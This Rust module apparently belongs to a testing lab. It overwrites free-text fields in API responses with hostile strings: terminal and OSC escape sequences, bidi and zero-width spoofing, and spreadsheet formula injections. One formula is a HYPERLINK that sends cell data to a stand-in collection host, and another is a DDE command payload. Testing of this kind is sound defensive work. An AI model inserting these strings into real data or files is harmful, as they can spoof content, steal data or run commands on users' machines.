//! Text as an attacker would write it, in every field that people can write.

use super::edits::{each_object, edit};
use super::{Hit, Struck};
use crate::lab::state::State;
use axum::http::response::Parts;
use serde_json::Value;

/// The length of a long text in bytes.
const LONG_BYTES: usize = 64 << 10;
/// The most long texts an answer gets.
const LONG_TEXTS_MAX: usize = 8;
/// The name of all kinds together.
const ALL: &str = "all";
/// The kind whose texts are long.
const LONG: &str = "long";

/// Texts by kind.
static KINDS: &[(&str, &[&str])] = &[
    (
        "control",
        &[
            "\u{1b}[2J\u{1b}[1;1H\u{1b}[31mcleared\u{1b}[0m\u{7}",
            "two\r\nlines\tand a tab",
            "nul\u{0}del\u{7f}c1\u{9b}31m",
            "\u{1b}P+q544e\u{1b}\\\u{1b}[6n\u{1b}[?1049h",
        ],
    ),
    (
        "osc",
        &[
            "\u{1b}]52;c;bGFiIGNsaXBib2FyZA==\u{7}",
            "\u{1b}]0;owned title\u{1b}\\",
            "\u{1b}]8;;https://collect.badnews.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
            "\u{9d}52;c;bGFi\u{9c}",
        ],
    ),
    ("bidi", &["invoice_\u{202e}fdp.exe", "\u{2066}admin\u{2069}\u{200f} \u{5d0}\u{5d1}", "\u{202d}a\u{202c}\u{61c}b"]),
    (
        "zero-width",
        &["pass\u{200b}word\u{feff}", "a\u{200d}\u{2060}b", "e\u{301}\u{302}\u{303}\u{304}\u{305}", "\u{200b}"],
    ),
    (LONG, &["A long title that does not end "]),
    (
        "formula",
        &[
            "=HYPERLINK(\"https://collect.badnews.example/?\"&A1,\"open\")",
            "+1+cmd|' /C calc'!A0",
            "@SUM(A1:A9)",
            "-2+3",
            "\t=1+1",
        ],
    ),
];

/// Fields that hold what people wrote, in resources and in rows of hunting tables.
static FIELDS: &[&str] = &[
    "accountdisplayname",
    "actordisplayname",
    "comment",
    "companyname",
    "customtags",
    "department",
    "description",
    "devicename",
    "displayname",
    "documentname",
    "emailsubject",
    "filename",
    "folderpath",
    "givenname",
    "jobtitle",
    "objectname",
    "officelocation",
    "policyname",
    "printername",
    "processcommandline",
    "recommendedactions",
    "resolvingcomment",
    "subject",
    "summary",
    "surname",
    "targetfilepath",
    "threatdisplayname",
    "title",
    "userdisplayname",
];

/// Whether `text` names a kind, or all.
pub(super) fn is_kind(text: &str) -> bool {
    text == ALL || KINDS.iter().any(|(name, _)| *name == text)
}

/// Hostile text in every free-text field.
pub(super) fn hostile_text(_: &State, _: &Struck<'_>, hit: &mut Hit, _: &mut Parts, body: Vec<u8>) -> Vec<u8> {
    let mut long_left = LONG_TEXTS_MAX;
    edit(body, |answer| {
        each_object(answer, &mut |object| {
            for (name, value) in object.iter_mut() {
                if FIELDS.contains(&name.to_lowercase().as_str()) {
                    replace(value, hit, &mut long_left);
                }
            }
        });
    })
}

fn replace(value: &mut Value, hit: &mut Hit, long_left: &mut usize) {
    match value {
        Value::String(text) => *text = hostile(hit, long_left),
        Value::Array(items) => items.iter_mut().for_each(|item| replace(item, hit, long_left)),
        _ => {}
    }
}

fn hostile(hit: &mut Hit, long_left: &mut usize) -> String {
    let kinds: Vec<_> = KINDS.iter().filter(|(name, _)| hit.value == ALL || hit.value == *name).collect();
    let (kind, texts) = hit.random.pick(&kinds);
    let text = *hit.random.pick(texts);
    if *kind == LONG && *long_left > 0 {
        *long_left -= 1;
        return text.repeat(LONG_BYTES.div_ceil(text.len()));
    }
    text.to_owned()
}
